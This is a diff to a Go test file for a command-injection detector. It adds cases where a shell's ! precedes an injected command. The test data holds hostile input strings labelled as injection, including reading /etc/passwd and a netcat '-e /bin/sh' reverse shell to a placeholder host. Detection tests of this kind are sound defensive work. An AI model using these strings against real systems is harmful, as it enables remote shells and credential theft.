@@ -52,3 +52,19 @@ func TestCommandThroughCarets(t *testing.T) {
 		assert.Equal(t, want, String(v), "%q", v)
 	}
 }
+
+// TestCommandAfterBang: a shell's ! (a pipeline's negation) leads to the
+// command it negates, as a blank or a ( does: "x; ! whoami" and "x|| !id"
+// run whoami and id in sh, bash and zsh. The lead stopped at the !, and
+// the command after it was not seen. Text with a ! is no command for
+// that.
+func TestCommandAfterBang(t *testing.T) {
+	for v, want := range map[string]Class{
+		"x; ! whoami": CommandInjection, "x;! whoami": CommandInjection, "x || ! id": CommandInjection,
+		"x && ! cat /etc/passwd": CommandInjection, "`! uname -a`": CommandInjection, "$(! nc -e /bin/sh x 1)": CommandInjection,
+		"Sale! & More!": None, "Wow!! | Great": None, "Yes & !important": None, "Shoes & ! More": None,
+	} {
+		assert.Equal(t, want, String(v), "%q", v)
+	}
+	assert.Equal(t, None, String(strings.Repeat(";!", 128<<10)), "a run of them is read once")
+}
